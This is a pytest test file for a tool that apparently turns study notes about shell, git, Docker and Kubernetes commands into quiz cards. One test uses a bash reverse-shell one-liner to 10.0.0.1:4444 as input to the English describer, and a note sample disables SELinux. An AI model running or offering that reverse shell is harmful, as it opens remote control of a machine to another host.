"""Issue #25, the line level: a command is a line the grammar reads as one, wherever it stands,
cut where the notes' words begin, its values as the learner fills them (made-up notes of the
shapes seen in real ones; no notes text copied)."""

import pytest

from dockquiz.notes import parse_notes
from dockquiz.notes.answer import clean_answer


def cards(text: str) -> list[tuple[str, str, str]]:
    return [(d.kind, d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts]


LINE_CASES = {
    "a step's words, then its command in inline code, no separator": (
        "## Pod\n\n1. 名前空間ごとに一覧する: `kubectl get pods -A`\n2. ラベルで絞り込む `kubectl get pods -l app=web`\n",
        [
            ("command", "名前空間ごとに一覧する", "kubectl get pods -A"),
            ("command", "ラベルで絞り込む", "kubectl get pods -l app=web"),
        ],
    ),
    "a second command in a Japanese sentence, its topic before it and its verb after it": (
        "## ログ\n\nログを追うには `kubectl logs -f <pod>` を使い、落ちる前のログは `kubectl logs --previous <pod>` で見る。\n",
        [
            ("command", "ログを追う", "kubectl logs -f <pod>"),
            ("command", "落ちる前のログを見る", "kubectl logs --previous <pod>"),
        ],
    ),
    "use `command` to do something": (
        "## Tips\n\nUse `docker ps -a` to list every container.\n\nYou can run `git log --oneline` to see a short history.\n",
        [
            ("command", "list every container (including stopped ones)", "docker ps -a"),
            ("command", "see a short history (one line per commit)", "git log --oneline"),
        ],
    ),
    "a Japanese value in brackets after the command is a placeholder, not the end of the answer": (
        "## 削除\n\n- コンテナを消す: docker rm (コンテナ名)\n- 止める: `docker stop コンテナID`\n",
        [
            ("command", "コンテナを消す", "docker rm <コンテナ名>"),
            ("command", "止める", "docker stop <コンテナID>"),
        ],
    ),
    "a value in single braces with a space stays one placeholder": (
        "## 取得\n\n```\n# イメージを取得する\ndocker pull {IMAGE NAME}\n```\n",
        [("command", "イメージを取得する", "docker pull <IMAGE NAME>")],
    ),
    "a shell prompt with user and host before the command": (
        "## 起動\n\n```\n# コンテナに入る\nme@web-01:~$ docker exec -it web bash\n```\n",
        [("example", "起動（コンテナに入る）", "docker exec -it web bash")],  # as after a bare "$"
    ),
    "macOS's prompt, and programs the notes' shells use": (
        "## 調査\n\n```\n# クラスタを起動\nmbp:~ me$ minikube start\n"
        "# パケットを取る\nmbp:~ me$ tcpdump -i eth0 -w a.pcap\n```\n",
        [
            ("example", "調査（クラスタを起動）", "minikube start"),
            ("example", "調査（パケットを取る）", "tcpdump -i eth0 -w a.pcap"),
        ],
    ),
    "words that only name the command, or point at it, are no description": (
        "## Tips\n\n- use `apt-get install --no-install-recommends curl`\n- これらは `kubectl get jobs` で確認できる\n",
        [],
    ),
    "a command quoted as wrong is no card, what to use instead is": (
        "## push\n\n- never run `git push --force` on a shared branch\n- Don't use `git reset --hard` here\n"
        "- `git push --force-with-lease`: push, unless someone else pushed first\n",
        [
            (
                "command",
                "push, unless someone else pushed first (by force unless someone else pushed)",
                "git push --force-with-lease",
            )
        ],
    ),
    "a command's words, a colon, its description (the heading's own command keeps its card)": (
        "# git stash\nstashとは変更を一時的にしまう場所。\ngit stash list: 退避の一覧を見る\n"
        "git stash drop：最新の退避を消す\nhead repository: 自分のfork\n",
        [
            ("command", "退避の一覧を見る", "git stash list"),
            ("command", "最新の退避を消す", "git stash drop"),
            ("command", "stashとは変更を一時的にしまう場所", "git stash"),
        ],
    ),
    "the shell's job control is commands": (
        "## ジョブ\n\n```\njobs # ジョブの一覧\nfg %1 # 前面に戻す\n```\n",
        [("example", "ジョブ（ジョブの一覧）", "jobs"), ("example", "ジョブ（前面に戻す）", "fg %1")],
    ),
    "system programs notes run are commands": (
        "## アカウント\n\n```\nchage -l <user> # 期限を確認する\nsudo setenforce 0 # SELinux を止める\n```\n",
        [
            ("example", "アカウント（期限を確認する）", "chage -l <user>"),
            ("example", "アカウント（SELinux を止める）", "sudo setenforce 0"),
        ],
    ),
    "a key installed in a bullet and in a sentence": (
        "## 鍵の登録\n\n- `ssh-copy-id me@host`\n\n`ssh-copy-id -i k.pub me@host` で公開鍵を登録する。\n",
        [("command", "鍵の登録", "ssh-copy-id me@host"), ("command", "公開鍵を登録する", "ssh-copy-id -i k.pub me@host")],
    ),
    "a value in words inside an option's brackets": (
        "## 公開\n\n- Service を作る: kubectl expose deployment (deployment名) --port=(port番号)\n",
        [("command", "Service を作る", "kubectl expose deployment <deployment名> --port=<port番号>")],
    ),
    "a command opening a Japanese sentence as its topic, the clause after it saying what it does": (
        "## ブランチ\n\n`git switch -c topic`は新しいブランチを作って切り替えること。  \n"
        "`git stash pop`は、退避した変更（最新のもの）を作業ツリーに戻しますが、退避は消える。\n",
        [
            ("command", "新しいブランチを作って切り替える", "git switch -c topic"),
            ("command", "退避した変更を作業ツリーに戻します", "git stash pop"),
        ],
    ),
    "a command as an English sentence's subject, after a clause saying when, its verb saying what it does": (
        "## Bisect\n\nOnce the search is over, `git bisect log` prints the steps taken so far. "
        "`git bisect reset` returns to the branch you started on. Then carry on.\n",
        [
            ("command", "prints the steps taken so far", "git bisect log"),
            ("command", "returns to the branch you started on", "git bisect reset"),
        ],
    ),
}


@pytest.mark.parametrize(
    "text",
    [
        "## x\n\n`docker image prune` は地味に便利で、よく使う。\n",  # a remark about it: no verb of doing
        "## x\n\n`docker compose up`は次の操作と同じ。\n",  # ends in a noun
        "## x\n\n`git reset --hard`は上記と同じことをする。\n",  # points back at other lines
        "## x\n\n`ls`は一覧を表示すること。\n",  # a program's name alone
        "## x\n\nNote that `git worktree prune` removes the stale entries.\n",  # an aside, not the sentence's subject
        "## x\n\nThe output of `docker stats --no-stream` lists every container.\n",  # not the subject
        "## x\n\nWhen it fails, `kubectl describe pod web` seems slow.\n",  # a remark, not what it does
    ],
)
def test_a_command_only_named_in_a_sentence_about_something_else_gets_no_card(text):
    assert cards(text) == []


@pytest.mark.parametrize("case", sorted(LINE_CASES))
def test_a_command_wherever_it_stands_is_cut_where_the_words_begin(case):
    text, want = LINE_CASES[case]
    assert cards(text) == want


@pytest.mark.parametrize(
    "line, answer",
    [
        ("docker rm (コンテナ名)", "docker rm <コンテナ名>"),
        ("git merge ブランチ名", "git merge <ブランチ名>"),
        ("git push origin ブランチ名", "git push origin <ブランチ名>"),
        ("docker pull {IMAGE NAME}", "docker pull <IMAGE NAME>"),
        ("docker commit <コンテナ> web:v2（イメージ名:タグ）", "docker commit <コンテナ> web:v2"),
        # values the shell reads are kept as written
        ('git commit -m "変更を記録"', 'git commit -m "変更を記録"'),
        ("git show stash@{1}", "git show stash@{1}"),
        ("find . -exec rm {} \\;", "find . -exec rm {} \\;"),
        ("echo {a,b}", "echo {a,b}"),
        ("awk '{print $1}' x.txt", "awk '{print $1}' x.txt"),
        ("docker rmi [イメージID]", "docker rmi [イメージID]"),
        ("docker network connect ネットワーク コンテナ", "docker network connect <ネットワーク> <コンテナ>"),
        ("echo こんにちは", "echo こんにちは"),  # words of a sentence: a value shown as written
        # an aside on the value before it, an arrow's remark after the command
        ("git checkout main(好きなブランチ)", "git checkout main"),
        ("git push --delete origin ブランチ名\u3000←これでも可", "git push --delete origin <ブランチ名>"),
    ],
)
def test_values_in_words_become_placeholders_and_the_shells_own_syntax_stays(line, answer):
    assert clean_answer(line) == answer


def test_flags_defined_in_comments_in_the_layouts_of_help_belong_to_the_command_below():
    text = (
        "## 削除\n\n```shell\n# イメージの削除\n# --force, -f    イメージを強制的に削除する\n$ docker image rm -f web\n```\n\n"
        "```shell\n# 未使用のイメージの削除\n# --force, -f    イメージを強制的に削除する\n$ docker image prune -f\n```\n\n"
        "```shell\n# 起動\n# --interactive, -i 標準入力を開く\n# --workdir=[パス], -w      作業ディレクトリ\n"
        "# --restart=[no | always]     再起動の方針\n$ docker run -it ubuntu\n```\n"
    )
    options = [(d.command, d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts if d.kind == "option"]
    assert options == [
        ("docker image rm", "イメージを強制的に削除する", "--force"),
        # the same words for the same flag of another command ask the same again: one card
        ("docker run", "標準入力を開く", "--interactive"),
        ("docker run", "作業ディレクトリ", "--workdir"),
        ("docker run", "再起動の方針", "--restart"),
    ]


def test_an_option_row_repeated_in_the_same_words_under_another_commands_help_is_one_card():
    text = (
        "## ps\n\n```\n$ docker ps\n-f, --filter filter   Filter output based on conditions provided\n"
        "--no-trunc            Don't truncate output\n```\n\n"
        "## images\n\n```\n$ docker images\n-f, --filter filter   Filter output based on conditions provided\n"
        "--no-trunc            Don't truncate output\n-q, --quiet           Only show image IDs\n```\n"
    )
    drafts = parse_notes(text, deck="x").drafts
    options = [(d.command, d.prompt_ja, d.answer) for d in drafts if d.kind == "option"]
    assert options == [
        ("docker ps", "Filter output based on conditions provided", "-f"),
        ("docker ps", "Don't truncate output", "--no-trunc"),
        ("docker images", "Only show image IDs", "-q"),
    ]
    assert [d.prompt_ja for d in drafts if d.kind == "meaning"] == ["-f", "--no-trunc", "-q"]


def test_an_option_written_with_a_placeholder_for_its_value_asks_the_flag():
    """`--name {NAME}`, `-p HOST_PORT:CONTAINER_PORT`: the value is a name for any value, which
    the option card keeps as the placeholder study shows (`--name <CONTAINER_NAME>`: cut to the
    flag, the answer would not be the notes'); a real value, and a placeholder (`<dir>`), stay."""
    text = (
        "## run\n\n```\ndocker run -d nginx\n```\n\n"
        "- `-p {HOST_PORT}:{CONTAINER_PORT}`: ポートを公開する\n- `--name CONTAINER_NAME`: 名前を付ける\n"
        "- `-e KEY=VALUE`: 環境変数を渡す\n- `-w <dir>`: 作業ディレクトリ\n- `--restart=always`: 止まっても常に再起動する\n"
    )
    options = [(d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts if d.kind == "option"]
    assert options == [
        ("ポートを公開する", "-p <HOST_PORT>:<CONTAINER_PORT>"),
        ("名前を付ける", "--name <CONTAINER_NAME>"),
        ("環境変数を渡す", "-e <KEY>=<VALUE>"),
        ("作業ディレクトリ", "-w <dir>"),  # a placeholder study shows on its own line
        ("止まっても常に再起動する", "--restart=always"),
    ]


@pytest.mark.parametrize(
    ("answer", "values"),
    [
        # a Dockerfile line's flag values are values it needs, shown with its arguments
        ("COPY --from=build /src/app /usr/local/bin/", ["build", "/src/app", "/usr/local/bin/"]),
        ("COPY --chown=node:node . .", ["node:node", ".", "."]),
        ("ADD --chmod=755 run.sh /run.sh", ["755", "run.sh", "/run.sh"]),
        ("FROM --platform=linux/arm64 alpine:3.19 AS base", ["linux/arm64", "alpine:3.19", "base"]),
        ("COPY --link . /app", [".", "/app"]),  # a flag with no value: nothing to show
    ],
)
def test_a_dockerfile_lines_flag_values_are_shown(answer, values):
    from dockquiz.grading.forms import card_values

    assert card_values("dockerfile", answer) == values


def test_a_flag_an_english_comment_explains_on_the_way_belongs_to_the_command_under_it():
    text = (
        "## Logs\n\n```bash\n# show the logs (use -t to add timestamps too)\ndocker logs web\n"
        "# the -f flag is for following new lines\ndocker logs -f web\n"
        "# -n tag is to keep only the last lines (optional)\ndocker logs -n 20 web\n```\n"
    )
    options = [(d.command, d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts if d.kind == "option"]
    assert options == [
        ("docker logs", "add timestamps too", "-t"),
        ("docker logs", "following new lines", "-f"),
        ("docker logs", "keep only the last lines", "-n"),
    ]


def test_a_line_of_a_flag_and_its_words_takes_an_equals_sign_and_a_second_spelling():
    text = (
        "## 列を切り出す\n\n```\ncut -f 2 -d , users.csv\n```\n\n-d = 区切り文字\n\n"
        "## ログ\n\n```\nkubectl logs web\n```\n\n-f / --follow → 新しい行を追いかける\n\n-p / --previous → 前のコンテナのログ\n"
    )
    options = [(d.command, d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts if d.kind == "option"]
    assert options == [
        ("cut", "区切り文字", "-d"),
        ("kubectl logs", "新しい行を追いかける", "-f"),
        ("kubectl logs", "前のコンテナのログ", "-p"),
    ]


def test_a_block_of_dockerfile_instructions_marked_as_shell_is_read_as_a_dockerfile():
    text = (
        "### Tips\n\n```sh\n# アプリを動かすユーザに切り替える\nUSER app\n\n# 待ち受けるポートを宣言する\nEXPOSE 3000\n\n"
        "# 依存をまとめて入れる\nRUN npm ci \\\n  && npm cache clean --force\n```\n\n"
        "```bash\n# コンテナ一覧\ndocker ps\n```\n"
    )
    got = [(d.kind, d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts]
    assert got[:2] == [
        ("dockerfile", "アプリを動かすユーザに切り替える", "USER app"),
        ("dockerfile", "待ち受けるポートを宣言する", "EXPOSE 3000"),
    ]
    assert got[2][0] == "dockerfile" and got[2][2].startswith("RUN npm ci")
    assert got[3] == ("command", "コンテナ一覧", "docker ps")


def test_a_flag_on_its_own_line_is_described_by_the_line_of_words_under_it():
    text = (
        '## 検索\n\n```\ngrep -E "a|b" notes.txt\n```\n\n-E\n拡張正規表現を使う\n\n`-v`\n一致しない行を表示する\n\n'
        "-i\n`grep -i a notes.txt`\n"  # a command under it: an example, no description
    )
    options = [(d.command, d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts if d.kind == "option"]
    assert options == [
        ("grep", "拡張正規表現を使う", "-E"),
        ("grep", "一致しない行を表示する", "-v"),
    ]


def test_a_heading_naming_the_instruction_in_brackets_keeps_only_its_words():
    text = "## 作業場所(WORKDIR命令)\n\n```dockerfile\nWORKDIR [パス]\n```\n"
    assert [(d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts] == [("作業場所", "WORKDIR [パス]")]


def test_flags_that_a_sentence_describes_are_options_of_the_command_above():
    text = (
        "## 起動\n\n```\ndocker run -it ubuntu\n```\n\n"
        "`-d` オプションでバックグラウンドで実行する。\n\n"
        "コンテナ名を付けたい場合、`--name`オプションを使用する。\n\n"
        "## リセット\n\n```\ngit reset HEAD~1\n```\n\n"
        "`--soft`は変更を残すオプション。変更も消すのは`--hard`。\n\n"
        "## Log\n\n```\ngit log\n```\n\nPass `--oneline` to show one line per commit.\n\n"
        "`-p` はよく使う。\n"  # said about, not what it does
    )
    options = [(d.command, d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts if d.kind == "option"]
    assert options == [
        ("docker run", "バックグラウンドで実行する", "-d"),
        ("docker run", "コンテナ名を付けたい", "--name"),
        ("git reset", "変更を残す", "--soft"),
        ("git reset", "変更も消す", "--hard"),
        ("git log", "show one line per commit", "--oneline"),
    ]


@pytest.mark.parametrize(
    "answer, values",
    [
        # a path this version of the grammar lacks: its words are the command, not values to show
        ("gcloud --project <project> compute disks list", []),
        ("gcloud compute disks resize <disk> --size 20GB", ["20GB"]),
        ("gcloud --project demo compute snapshots delete snap-1", ["demo", "snap-1"]),
        ("gcloud compute instances start web-1", ["web-1"]),  # a known path: its argument shown
        ("git subtree add --prefix=lib hoge main", ["hoge", "main", "lib"]),  # --prefix=lib: a value to type
        ("streamlit run app.py", ["app.py"]),  # no grammar: the program and its next word
    ],
)
def test_the_values_shown_beside_a_prompt_never_spell_the_commands_own_words(answer, values):
    from dockquiz.grading.forms import card_values

    assert card_values("command", answer) == values


def test_an_english_prompt_never_names_a_one_word_answer():
    from dockquiz.grading.grammar import grammar
    from dockquiz.notes.english import command_en

    g = grammar()
    assert command_en(g, "lscpu") == "A command"
    assert command_en(g, "tar -xzf a.tgz").startswith("An archiving utility: extract")  # its flags said (test_shell_en.py)
    assert command_en(g, "git status") == "Show the state of the working tree"


def test_a_flag_defined_under_a_programs_heading_is_no_description_of_the_program():
    text = "## cp\n-r : フォルダごとコピー\n\n## ls\nファイル一覧\n"
    assert [(d.kind, d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts if d.kind == "command"] == [
        ("command", "ファイル一覧", "ls")
    ]


def test_english_says_a_shell_loop_as_a_loop_and_never_reads_its_syntax_as_commands():
    from dockquiz.grading.grammar import grammar
    from dockquiz.notes.english import command_en

    g = grammar()
    assert command_en(g, 'for f in "$@"; do echo $f; done') == 'For each f in "$@": display a line of text'
    assert command_en(g, "while true; do date; sleep 1; done") == (
        "While true: print or set the system date and time; then delay for a specified amount of time"
    )
    assert command_en(g, "for c in $(docker ps -q); do docker stop $c; done") == (
        "For each c in the output of “list containers, show only container IDs”: stop $c"
    )
    # `\;` ends -exec's command and `>& file` redirects a stream: neither is a command of its own
    assert command_en(g, "find . -name '*.tmp' -exec rm {} \\;") == (
        "Search for files in a directory hierarchy: whose name matches *.tmp, for each one, running: remove files or directories"
    )
    assert command_en(g, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") == "Run shell commands (bash): interactively"


def test_variables_set_for_a_command_are_part_of_its_line_and_study_shows_them():
    from dockquiz.grading.forms import card_values

    text = "## デバッグ\n\n```\n# 通信を表示してコミット\nGIT_TRACE=1 git commit -m temp\n```\n"
    drafts = parse_notes(text, deck="x").drafts
    assert [(d.prompt_ja, d.answer, d.command, d.prompt_en) for d in drafts] == [
        (
            "通信を表示してコミット",
            "GIT_TRACE=1 git commit -m temp",
            "git commit",
            "Record the staged changes with message temp, with an environment variable set",
        )
    ]
    assert card_values("command", "GIT_TRACE=1 git commit -m temp") == ["GIT_TRACE=1", "temp"]


def test_an_english_prompt_never_holds_japanese_even_when_it_quotes_a_value():
    from dockquiz.i18n import has_japanese

    text = '## Dockerfile\n\n```dockerfile\nFROM alpine\n# 文字を表示する\nRUN echo "シェル形式です"\n```\n'
    prompts = [d.prompt_en for d in parse_notes(text, deck="x").drafts]
    assert prompts and not any(has_japanese(p) for p in prompts)
    assert "While building, display a line of text" in prompts  # (the value study shows: never quoted)


def test_english_leaves_a_usages_optional_flags_to_the_answer_and_says_there_are_some():
    from dockquiz.grading.grammar import grammar
    from dockquiz.notes.english import command_en

    g = grammar()
    assert command_en(g, "docker rm [-f] <name>") == "Remove container <name>, with optional flags"
    assert command_en(g, "kubectl rollout undo deployment web [--to-revision (0|1|N)]") == (
        "Roll back deployment, with optional flags"  # its `|` no pipeline
    )
    assert "optional" not in command_en(g, "test [ -f x ]")  # the shell's test, not a usage


@pytest.mark.parametrize(
    "answer, english",
    [
        # flags notes use most, said in our own words instead of "one more option"
        ("git fetch --all", "Download objects and refs from a remote, fetching every remote"),
        ("git diff --cached", "Show changes in the staging area"),
        ("git log --graph --oneline", "Show the commit history as a graph and one line per commit"),
        ("git push --force-with-lease origin main", "Push to origin, by force unless someone else pushed"),
        ("git log -S token", "Show the commit history, adding or removing token"),
        ("git config --global user.name me", "Read or set a configuration value, for every repository"),
        ("git clean -n", "Delete untracked files as a dry run"),
        ("kubectl delete pod web --grace-period=0 --force", "Delete pod, at once, by force"),
        ("kubectl create -f pod.yaml", "Create a resource, described in pod.yaml"),
    ],
)
def test_the_flags_notes_use_most_are_said_not_counted(answer, english):
    from dockquiz.grading.grammar import grammar
    from dockquiz.notes.english import command_en

    assert command_en(grammar(), answer) == english


ANSWER_CUT_CASES = {
    "a flag after two spaces goes on with the command": (
        "## 再起動\n\n- 再起動する: kubectl rollout restart deployment <name>  -n <namespace>\n",
        [("command", "再起動する", "kubectl rollout restart deployment <name> -n <namespace>")],
    ),
    "a word processor's quotes and a sentence's full stop": (
        "## 手順\n\n1. 記録する: git commit -m”最初のコミット”\n2. 取得する: docker pull mysql:8.0.\n",
        [
            ("command", "記録する", 'git commit -m"最初のコミット"'),
            ("command", "取得する", "docker pull mysql:8.0"),
        ],
    ),
    "a remark in brackets after the command, a Japanese keyboard's continuation": (
        "## 続き\n\n```\n# 競合を直してから続ける\ngit rebase --continue (after all conflicts are resolved)\n"
        "```\n\n```\n# インスタンスを作る\ngcloud compute instances create web ¥\n  --zone asia-northeast1-a\n```\n",
        [
            ("command", "競合を直してから続ける", "git rebase --continue"),
            ("command", "インスタンスを作る", "gcloud compute instances create web --zone asia-northeast1-a"),
        ],
    ),
}


@pytest.mark.parametrize("case", sorted(ANSWER_CUT_CASES))
def test_the_answer_is_the_whole_command_and_nothing_else(case):
    text, want = ANSWER_CUT_CASES[case]
    assert cards(text) == want


@pytest.mark.parametrize(
    "line, english",
    [
        ("chage -l alice", "Change a user's password expiry information: listing the account's aging information"),
        ("sudo dmidecode -s bios-version", "Print the hardware information in the DMI table: only the string bios-version"),
        ("java -jar app.jar", "Run a Java program: from the JAR file app.jar"),
        ("sftp -i key.pem -P 2222 me@host", "Transfer files securely over SSH: with identity file key.pem, on port 2222"),
        (
            "ssh-copy-id -i k.pub -p 2222 me@host",
            "Install your public key on a remote machine, so ssh logs in with it: with the key k.pub, on port 2222",
        ),
    ],
)
def test_system_programs_notes_run_are_said_with_their_flags(line, english):
    from dockquiz.grading.grammar import grammar
    from dockquiz.notes.english import command_en

    assert command_en(grammar(), line) == english


@pytest.mark.parametrize(
    "line, code, prompted",
    [
        ("❯ kind create cluster", "kind create cluster", True),  # starship's and pure's prompt, as $
        ("$ ls", "ls", True),
        ("❯", "❯", False),
    ],
)
def test_a_prompt_glyph_is_a_prompt(line, code, prompted):
    from dockquiz.notes.text import strip_prompt

    assert strip_prompt(line) == (code, prompted)


def test_output_under_a_glyph_prompt_is_no_command():
    text = "## 2.2\n\nバージョンを確かめる\n\n```\n❯ kind version\nkind v0.22.0 go1.20.13 linux/amd64\n```\n"
    assert [d.answer for d in parse_notes(text, deck="x").drafts] == ["kind version"]
